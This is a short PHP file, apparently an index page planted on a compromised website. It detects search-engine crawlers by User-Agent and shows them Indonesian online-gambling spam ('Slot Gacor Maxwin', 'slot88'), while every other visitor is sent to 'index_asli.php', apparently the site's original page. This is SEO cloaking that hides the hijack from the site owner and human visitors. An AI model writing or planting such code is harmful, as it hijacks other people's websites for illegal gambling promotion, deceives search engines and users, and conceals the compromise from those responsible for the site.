<?php
if (preg_match('/bot|google|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {
?>
<h1>Slot Gacor Maxwin - Situs Slot Online</h1><p>Daftar slot88, RTP slot live, judi online terpercaya</p>
<?php
} else {
    include 'index_asli.php';
}
